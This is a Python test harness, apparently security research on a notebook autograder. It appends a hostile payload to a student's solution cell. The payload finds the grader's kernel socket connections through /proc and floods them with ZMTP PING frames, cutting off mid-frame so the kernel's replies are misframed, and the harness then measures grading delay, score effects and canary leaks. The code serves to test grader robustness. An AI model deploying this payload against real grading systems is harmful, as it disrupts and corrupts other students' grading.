"""a02: the first version of a01 (as run in a01's second try): PING commands written for DUR s onto EVERY accepted
connection of the grader to the kernel's shell, control and IOPub sockets, and the writes stop when DUR is up,
possibly in the middle of a 9-byte PING frame (so the kernel's own next message on that connection is misframed).
The kernel's shell reply is then lost or misread. What does the grader do, how long does the hand-in hold the
grading run, and does the honest student after it keep full marks? Output: a02.out.txt (NOBASE=1)."""
import os, sys, time, threading
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from u21 import *

A = "ps1_memory"
DUR = float(os.environ.get("DUR", "60"))
CHUNK = int(os.environ.get("CHUNK", "100000"))

PAYLOAD = f'''
def __ping(dur={DUR}, chunk={CHUNK}):
    import os, socket, select, time, struct
    seen = []
    from ipykernel.kernelapp import IPKernelApp
    app = IPKernelApp.instance()
    targets = ["%s-%s" % (app.ip, p) for p in (app.iopub_port, app.shell_port, app.control_port)]
    fds = []
    for name in os.listdir("/proc/self/fd"):
        fd = int(name)
        try:
            if not os.readlink("/proc/self/fd/%d" % fd).startswith("socket:"):
                continue
            s = socket.socket(fileno=os.dup(fd))
        except OSError:
            continue
        try:
            if s.family == socket.AF_UNIX and s.getsockname() in targets:
                try:
                    s.getpeername()
                    pid, uid, gid = struct.unpack("3i", s.getsockopt(socket.SOL_SOCKET, socket.SO_PEERCRED, 12))
                    seen.append((fd, s.getsockname()[-5:], pid))
                    # the kernel is connected to some of its own sockets (ipykernel's shell thread): skip those;
                    # only the grader's IOPub connection (its SUB socket), where the kernel's own libzmq writes
                    # nothing while this cell prints nothing
                    if pid != os.getpid():
                        fds.append(fd)
                except OSError:
                    pass
        finally:
            s.close()
    found = len(fds)
    print("accepted connections (fd, endpoint, peer pid):", seen)
    ping = b"\\x04\\x07\\x04PING\\x00\\x00"   # ZMTP 3.1 command frame: PING, TTL 0, no context
    wire = ping * chunk
    t0, n = time.time(), 0
    left = dict((fd, memoryview(wire)) for fd in fds)
    while fds:
        _, ready, _ = select.select([], fds, [], 1)
        for fd in ready:
            try:
                left[fd] = left[fd][os.write(fd, left[fd]):]
            except BlockingIOError:
                pass
            if not left[fd]:
                n += 1
                left[fd] = memoryview(wire)
        if time.time() - t0 > dur:  # stops wherever the writes are, mid-frame included
            break
    return seen, found, n * chunk, time.process_time()
__r = __ping()
print("accepted connections (fd, endpoint, peer pid), flooded, PINGs written, kernel CPU s:", __r)
'''


def hostile():
    def mutate(nb):
        for c in nb.cells:
            if c.cell_type == "code" and c.get("metadata", {}).get("nbgrader", {}).get("solution"):
                c.source += "\n" + PAYLOAD
                break
    return notebook(A, mutate=mutate)


def sampler(stop, acc):
    mine = os.readlink("/proc/self/ns/pid")
    while not stop.is_set():
        for p in os.listdir("/proc"):
            if not p.isdigit():
                continue
            try:
                if os.stat(f"/proc/{p}").st_uid != UID:
                    continue
                ns = os.readlink(f"/proc/{p}/ns/pid")
                f = open(f"/proc/{p}/stat").read().rsplit(")", 1)[1].split()
                cpu = (int(f[11]) + int(f[12])) / os.sysconf("SC_CLK_TCK")
                cmd = open(f"/proc/{p}/cmdline", "rb").read().replace(b"\0", b" ").decode(errors="replace")[:90]
            except OSError:
                continue
            if CLONE not in cmd and ns != mine:
                continue
            side = "grader" if ns == mine else "sandbox"
            acc[(p, side)] = (max(cpu, acc.get((p, side), (0, ""))[0]), cmd)
        time.sleep(0.5)


def run(tag, students):
    dest = course(tag, students)
    acc, stop = {}, threading.Event()
    th = threading.Thread(target=sampler, args=(stop, acc), daemon=True); th.start()
    t0 = time.time()
    p = grade(dest, env=CANARY_ENV)
    stop.set(); th.join()
    wall = time.time() - t0
    g = sum(v[0] for (pid, side), v in acc.items() if side == "grader")
    s = sum(v[0] for (pid, side), v in acc.items() if side == "sandbox")
    print(f"{tag}: wall {wall:.0f} s; CPU of the grading user's host-namespace processes (grader side) {g:.1f} s; "
          f"in sandboxes {s:.1f} s")
    for (pid, side), (cpu, cmd) in sorted(acc.items(), key=lambda kv: -kv[1][0])[:8]:
        print(f"   {side:7s} {cpu:7.1f} s  {cmd.replace(CLONE, '<clone>')}")
    out = p.stdout + p.stderr
    print(f"{tag}: canary in grader output:", "secret@localhost" in out or "AKIASECRETCANARY123" in out)
    report(dest)
    scores(dest)
    cell_outputs(dest, "m1", A, {"training_memory", "peak_memory", "memory_estimate"})
    cleanup(dest)


if __name__ == "__main__":
    print(f"hostile: one cell, {DUR} s of ZMTP PING commands onto the grader's IOPub connection")
    if not os.environ.get("NOBASE"):
        run("a02-base", {("aa_honest", A): honest(A), ("zz_honest", A): honest(A)})
    run("a02", {("aa_honest", A): honest(A), ("m1", A): hostile(), ("zz_honest", A): honest(A)})
